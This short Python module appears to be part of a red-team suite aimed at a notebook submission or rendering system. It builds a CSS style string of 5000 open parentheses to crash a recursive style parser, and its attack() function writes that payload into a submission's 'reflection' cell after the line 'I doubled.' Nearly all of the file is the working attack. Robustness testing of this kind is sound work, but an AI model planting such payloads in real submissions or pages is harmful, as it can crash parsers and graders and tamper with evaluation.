"""Shows a style of five thousand brackets, and writes one into the text: a parser of styles that recurses fails."""

STYLE = "color:" + "(" * 5000
CELL = f"""
from IPython.display import HTML, display
display(HTML('<p style="{STYLE}">x</p>'))
"""
SCORE = 9


def attack(submission):
    submission.cell("reflection").source = f'I doubled. <span style="{STYLE}">x</span>'
